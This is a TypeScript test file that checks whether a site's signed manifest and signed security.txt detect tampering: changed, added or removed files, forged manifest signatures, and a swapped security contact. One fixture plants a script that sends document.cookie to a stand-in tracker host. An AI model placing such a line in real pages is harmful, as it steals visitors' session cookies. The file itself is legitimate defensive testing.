/**
 * One tampered artefact per attack on the site's signed files: the manifest (a file
 * changed, added or removed after signing; the manifest itself edited or re-signed by
 * a key that is not an automation key) and security.txt (a contact swapped).
 */
import os from 'node:os';
import path from 'node:path';
import { mkdir, mkdtemp, readFile, rm, unlink, writeFile } from 'node:fs/promises';
import * as openpgp from 'openpgp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { verifyDetached } from '../../src/core/pgp/detached.ts';
import { compareWithManifest, type Manifest } from '../../src/core/site/manifest.ts';
import { finishSite, siteFiles } from '../../src/io/site-finish.ts';
import { readCanaryContent, type CanaryContent } from '../../src/io/read-content.ts';
import { projectAt } from '../../src/io/project.ts';
import { makeProject, type TestProject } from '../helpers/project.ts';

let p: TestProject;
let site: string;
let content: CanaryContent;
const NOW = new Date('2026-11-23T10:00:00Z');

async function copyOf(): Promise<Map<string, string>> {
  return new Map((await siteFiles(site)).map((f) => [f.path, f.sha256]));
}
const manifest = async () => JSON.parse(await readFile(path.join(site, 'manifest.json'), 'utf8')) as Manifest;

beforeAll(async () => {
  p = await makeProject();
  await p.writeConfig();
  await writeFile(
    path.join(p.root, 'content', 'service.yml'),
    stringify({ name: 'Test Mail', url: 'https://test-mail.example', security: { contact: ['mailto:security@test-mail.example'] } }),
  );
  content = await readCanaryContent(projectAt(p.root));
  site = await mkdtemp(path.join(os.tmpdir(), 'candor-site-'));
  await mkdir(path.join(site, 'policies'), { recursive: true });
  await writeFile(path.join(site, 'index.html'), '<!doctype html><title>Test Mail</title><p>Hello</p>\n');
  await writeFile(path.join(site, 'policies', 'index.html'), '<!doctype html><title>Policies</title><p>We keep backups for 30 days.</p>\n');
  await writeFile(path.join(site, 'canary.txt'), 'a signed canary\n');
});
afterAll(async () => {
  await rm(site, { recursive: true, force: true });
  await p?.cleanup();
});

/** Signs the site afresh: every test starts from a genuine signed copy. */
async function signed(): Promise<void> {
  await finishSite(site, { content, now: NOW, key: p.ci.privateKey });
  expect(compareWithManifest(await manifest(), await copyOf())).toEqual([]);
}

describe('the manifest catches a changed copy of the site', () => {
  it('a page edited after signing is "changed"', async () => {
    await signed();
    await writeFile(path.join(site, 'policies', 'index.html'), '<!doctype html><title>Policies</title><p>We keep backups for 3000 days.</p>\n');
    expect(compareWithManifest(await manifest(), await copyOf())).toEqual([{ path: '/policies/index.html', problem: 'changed' }]);
  });

  it('an injected script is "unlisted"', async () => {
    await signed();
    await writeFile(path.join(site, 'tracker.js'), 'fetch("https://tracker.example/?" + document.cookie)\n');
    expect(compareWithManifest(await manifest(), await copyOf())).toEqual([{ path: '/tracker.js', problem: 'unlisted' }]);
    await unlink(path.join(site, 'tracker.js'));
  });

  it('a removed file is "missing"', async () => {
    await signed();
    await unlink(path.join(site, 'canary.txt'));
    expect(compareWithManifest(await manifest(), await copyOf())).toEqual([{ path: '/canary.txt', problem: 'missing' }]);
    await writeFile(path.join(site, 'canary.txt'), 'a signed canary\n');
  });
});

describe('the manifest signature', () => {
  const heartbeatKeys = () => [p.ci.publicKey];

  it('the genuine manifest verifies with the heartbeat key', async () => {
    await signed();
    const r = await verifyDetached(
      await readFile(path.join(site, 'manifest.json')),
      await readFile(path.join(site, 'manifest.json.asc'), 'utf8'),
      heartbeatKeys(),
    );
    expect(r.ok && r.fingerprint).toBe(p.ci.ref.fingerprint);
  });

  it('a manifest edited to cover a changed page no longer verifies', async () => {
    await signed();
    const m = await manifest();
    m.files[0]!.sha256 = `sha256:${'0'.repeat(64)}`;
    const r = await verifyDetached(JSON.stringify(m), await readFile(path.join(site, 'manifest.json.asc'), 'utf8'), heartbeatKeys());
    expect(r.ok).toBe(false);
  });

  it('a manifest re-signed by another key (a person, not the automation key) does not verify with the heartbeat keys', async () => {
    await signed();
    const text = await readFile(path.join(site, 'manifest.json'));
    const message = await openpgp.createMessage({ binary: new Uint8Array(text) });
    const forged = await openpgp.sign({ message, signingKeys: p.signers[0]!.privateKey, detached: true });
    expect((await verifyDetached(text, forged, heartbeatKeys())).ok).toBe(false);
    await expect(finishSite(site, { content, now: NOW, key: p.signers[0]!.privateKey })).rejects.toMatchObject({ code: 'SIGNER_NOT_IN_POLICY' });
  });
});

describe('security.txt', () => {
  it('a contact swapped after signing breaks its cleartext signature', async () => {
    await signed();
    const genuine = await readFile(path.join(site, '.well-known', 'security.txt'), 'utf8');
    const check = async (armored: string) => {
      const message = await openpgp.readCleartextMessage({ cleartextMessage: armored });
      const result = await openpgp.verify({ message, verificationKeys: p.ci.publicKey, expectSigned: true, date: NOW });
      return result.signatures[0]!.verified.then(
        () => true,
        () => false,
      );
    };
    expect(await check(genuine)).toBe(true);
    const swapped = genuine.replace('mailto:security@test-mail.example', 'mailto:security@attacker.example');
    expect(swapped).not.toBe(genuine);
    await expect(check(swapped)).rejects.toThrow();
  });
});
